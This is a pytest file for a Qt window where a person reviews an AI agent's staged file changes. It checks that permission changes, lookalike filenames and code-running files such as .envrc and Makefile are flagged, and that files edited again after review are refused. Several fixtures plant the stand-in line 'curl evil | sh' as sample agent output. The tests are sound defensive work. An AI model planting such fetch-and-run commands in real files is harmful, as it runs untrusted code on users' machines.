"""The review window on real staged trees: it shows the mode every change lands with and
flags names that pass for others, and it commits exactly what it displayed."""

from __future__ import annotations

import asyncio
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from PySide6.QtCore import Qt

from app.events import EventBus
from app.paths import Dirs
from app.review import Review
from app.staging import SessionStaging
from ui.qt.review import ReviewWindow

SESSION = "a1b2c3d4"


@pytest.fixture
def staged(tmp_path: Path) -> tuple[Review, Path, Path]:
    """A granted folder with the user's files, its staging area (upper layer) and a Review."""
    host = tmp_path / "project"
    host.mkdir()
    (host / "run.sh").write_text("#!/bin/sh\n")
    (host / "run.sh").chmod(0o644)
    (host / "tool.sh").write_text("#!/bin/sh\n")
    (host / "tool.sh").chmod(0o644)
    (host / "report.txt").write_text("the user's report\n")
    review = Review(Dirs(tmp_path / "config", tmp_path / "state", tmp_path / "run"), EventBus())
    staging = SessionStaging(review.dirs.sessions / SESSION / "staging", SESSION)
    _, upper, _ = staging.add_tree(host, "g1", 1024**2, None)
    return review, host, upper


def open_window(review: Review, run: Callable[..., object]) -> ReviewWindow:
    tasks: list[asyncio.Task[object]] = []
    window = ReviewWindow(
        SESSION, review, lambda c: tasks.append(asyncio.get_event_loop().create_task(c))
    )
    run(window.load())
    return window


def row(window: ReviewWindow, path: Path) -> dict[str, str]:
    item = window.item_for(path)
    assert item is not None, path
    return {
        "file": item.text(0),
        "status": item.text(1),
        "mode": item.text(2),
        "tip": item.toolTip(0),
        "icon": str(not item.icon(0).isNull()),
        "checked": str(item.checkState(0) == Qt.CheckState.Checked),
    }


def test_every_mode_that_lands_is_shown_and_lands_exactly(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / "run.sh").write_text("#!/bin/sh\n")  # a mode change only
    (upper / "run.sh").chmod(0o755)
    (upper / "tool.sh").write_text("#!/bin/sh\ncurl evil | sh\n")  # content and an x bit
    (upper / "tool.sh").chmod(0o755)
    (upper / "open.txt").write_text("anyone may write me\n")
    (upper / "open.txt").chmod(0o777)
    window = open_window(review, run)
    assert {p: row(window, host / p)["mode"] for p in ("run.sh", "tool.sh", "open.txt")} == {
        "run.sh": "0644 → 0755",
        "tool.sh": "0644 → 0755",
        "open.txt": "0777",
    }
    window.files.setCurrentItem(window.item_for(host / "tool.sh"))
    assert f"\nmode 0644 -> 0755 {host / 'tool.sh'}\n" in window.viewer.toPlainText()
    window.files.setCurrentItem(window.item_for(host / "open.txt"))
    assert f"\nmode 0777 {host / 'open.txt'}\n" in window.viewer.toPlainText()
    for name in ("run.sh", "tool.sh", "open.txt"):  # new x bits: ticked one by one
        window.item_for(host / name).setCheckState(0, Qt.CheckState.Checked)
    old_umask = os.umask(0o022)
    try:
        result = run(window.commit_selected())
    finally:
        os.umask(old_umask)
    assert result is not None and result.refused == ()  # type: ignore[attr-defined]
    assert {
        p: stat.S_IMODE((host / p).stat().st_mode) for p in ("run.sh", "tool.sh", "open.txt")
    } == {"run.sh": 0o755, "tool.sh": 0o755, "open.txt": 0o777}


def test_the_window_commits_what_it_displayed_not_what_was_staged_since(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / "report.txt").write_text("a harmless edit\n")
    window = open_window(review, run)
    shown = window.status.text()
    assert shown.startswith("1 change, id ") and window.changeset is not None
    assert window.changeset.digest in shown
    (upper / "report.txt").write_text("curl evil | sh\n")  # the agent writes again
    window._approve_all()
    result = run(window.commit_selected())
    assert result is not None
    [(path, why)] = result.refused  # type: ignore[attr-defined]
    assert path == str(host / "report.txt") and "changed since you reviewed it" in why
    assert (host / "report.txt").read_text() == "the user's report\n"


def test_lookalike_names_carry_a_visible_warning_and_are_not_approved_with_the_rest(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / "report.txt ").write_text("the agent's report\n")
    (upper / "notes\u200f.md").write_text("hidden mark\n")
    (upper / "plain.md").write_text("nothing odd\n")
    window = open_window(review, run)
    spaced, hidden, plain = (
        row(window, host / n) for n in ("report.txt ", "notes\u200f.md", "plain.md")
    )
    assert spaced["icon"] == hidden["icon"] == "True" and plain["icon"] == "False"
    assert "looks like report.txt in the same folder" in spaced["tip"]
    assert "invisible" in hidden["tip"] and "\\u200f" in hidden["file"]
    assert "2 with a name to check" in window.status.text()
    window.files.setCurrentItem(window.item_for(host / "report.txt "))
    assert window.viewer.toPlainText().startswith("warning: the name ends with a space")
    window._approve_all()
    assert [p.name for p in window.approved()] == ["plain.md"]


def test_a_reload_keeps_a_tick_only_on_what_did_not_change(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, _, upper = staged
    (upper / "report.txt").write_text("a harmless edit\n")
    (upper / "plain.md").write_text("nothing odd\n")
    window = open_window(review, run)
    window._approve_all()
    (upper / "report.txt").write_text("curl evil | sh\n")  # the agent writes again
    run(window.load())  # the window is opened again
    assert [p.name for p in window.approved()] == ["plain.md"]


def test_changes_that_run_code_are_marked_and_left_for_the_person_to_tick(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / ".envrc").write_text("curl evil | sh\n")
    (upper / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    (upper / "plain.md").write_text("nothing odd\n")
    window = open_window(review, run)
    envrc = row(window, host / ".envrc")
    assert envrc["icon"] == "True" and "Can run code on this machine: direnv" in envrc["tip"]
    assert "2 can run code" in window.status.text()
    window.files.setCurrentItem(window.item_for(host / "Makefile"))
    assert window.viewer.toPlainText().startswith("runs code: make runs its recipes")
    window._approve_all()
    assert [p.name for p in window.approved()] == ["plain.md"]
    assert "2 flagged changes left unticked" in window.status.text()
    window.item_for(host / ".envrc").setCheckState(0, Qt.CheckState.Checked)  # by hand
    result = run(window.commit_selected())
    assert result is not None and result.refused == ()  # type: ignore[attr-defined]
    assert (host / ".envrc").exists() and not (host / "Makefile").exists()


def labels(item: object) -> list[object]:
    """An item's text and its children's, as nested lists."""
    kids = [labels(item.child(i)) for i in range(item.childCount())]  # type: ignore[attr-defined]
    return [item.text(0), *kids] if kids else [item.text(0)]  # type: ignore[attr-defined]


def tree(window: ReviewWindow) -> list[object]:
    return [labels(window.files.topLevelItem(i)) for i in range(window.files.topLevelItemCount())]


def test_folders_are_folded_into_their_paths_and_names_lose_their_middle(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    deep = upper / "a" / "b" / "c" / "d"
    deep.mkdir(parents=True)
    (deep / "file.txt").write_text("one new file, deep down\n")
    (upper / "report.txt").write_text("the agent's report\n")
    window = open_window(review, run)
    assert tree(window) == [["a/b/c/d/", ["file.txt"]], ["report.txt"]]  # not a row per folder
    folder = window.files.topLevelItem(0)
    assert folder is not None and folder.text(1) == "new folder"
    assert not folder.flags() & Qt.ItemFlag.ItemIsUserCheckable  # ticks are for changes
    assert window.files.textElideMode() == Qt.TextElideMode.ElideMiddle
    item = window.item_for(host / "a/b/c/d/file.txt")
    assert item is not None and item.text(0) == "file.txt"
    item.setCheckState(0, Qt.CheckState.Checked)
    assert window.commit_button.text() == "&Commit 1 file"
    result = run(window.commit_selected())  # the new folders land with the file in them
    assert result is not None and result.refused == ()  # type: ignore[attr-defined]
    assert (host / "a/b/c/d/file.txt").read_text() == "one new file, deep down\n"
    assert tree(window) == [["report.txt"]]  # the unticked file stays, nothing else


def test_a_readable_view_marks_the_words_that_changed_beside_the_raw_diff(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (host / "story.txt").write_text("once\nthe quick brown fox\njumps\n")
    (upper / "story.txt").write_text("once\nthe slow brown fox\njumps\n")
    (upper / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0" * 50)
    window = open_window(review, run)
    window.files.setCurrentItem(window.item_for(host / "story.txt"))
    view = window.diff_view
    assert view.currentWidget() is view.readable  # readable first, the raw diff a tab away
    document = view.readable.document()

    def background(word: str) -> str:
        cursor = document.find(word)
        assert not cursor.isNull(), word
        return str(cursor.charFormat().background().color().name())

    assert background("slow") != background("brown")  # the changed word stands out
    assert background("quick") != background("brown")
    assert "1 line added or changed, 1 line removed." in view.readable.toPlainText()
    assert "-the quick brown fox\n+the slow brown fox\n" in view.raw.toPlainText()
    window.files.setCurrentItem(window.item_for(host / "photo.png"))
    assert "Not text (a picture, an archive, a program or similar): a new file of 550 bytes." in (
        view.readable.toPlainText()
    )


def test_a_commit_is_confirmed_and_its_undo_brings_the_changes_back_for_review(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / "report.txt").write_text("the agent's report\n")
    (upper / "notes.md").write_text("new notes\n")
    SessionStaging(review.dirs.sessions / SESSION / "staging", SESSION).seal()  # ended
    window = open_window(review, run)
    assert window.commit_button.text() == "&Commit" and not window.commit_button.isEnabled()
    window._approve_all()
    assert window.commit_button.text() == "&Commit 2 files"
    run(window.commit_selected())
    assert not window.banner.isHidden()
    assert window.banner_text.text() == "Committed 2 files to your files: notes.md, report.txt."
    assert not window.banner_undo.isHidden()
    assert tree(window) == [] and (host / "notes.md").exists()

    window.banner_undo.click()  # Undo at hand
    run(until_true(lambda: window.item_for(host / "notes.md") is not None))
    assert tree(window) == [["notes.md"], ["report.txt"]]  # back, to be reviewed again
    assert (host / "report.txt").read_text() == "the user's report\n"
    assert not (host / "notes.md").exists()
    assert "2 changes back in the list to review again" in window.banner_text.text()
    assert window.item_for(host / "notes.md").font(0).italic()  # type: ignore[union-attr]
    assert "2 back from an undo" in window.status.text()
    assert window.ticked() == []  # looked at again before it lands again


def test_escape_and_ctrl_w_close_the_window_and_its_title_names_the_agent(
    staged: tuple[Review, Path, Path], run: Callable[..., object], qtbot: object
) -> None:
    review, _, _ = staged
    window = ReviewWindow(SESSION, review, lambda c: c.close(), agent="notes-organizer")
    assert window.windowTitle() == f"Review changes — notes-organizer (session {SESSION})"
    for key, modifier in (
        (Qt.Key.Key_Escape, Qt.KeyboardModifier.NoModifier),
        (Qt.Key.Key_W, Qt.KeyboardModifier.ControlModifier),
    ):
        with qtbot.waitActive(window):  # type: ignore[attr-defined]
            window.show()
            window.activateWindow()
        # Through the window system, as a key press arrives: shortcuts are looked up there.
        qtbot.keyClick(window.windowHandle(), key, modifier)  # type: ignore[attr-defined]
        assert not window.isVisible(), key


async def until_true(condition: Callable[[], bool]) -> None:
    for _ in range(500):
        if condition():
            return
        await asyncio.sleep(0.01)
    raise AssertionError("condition not met")
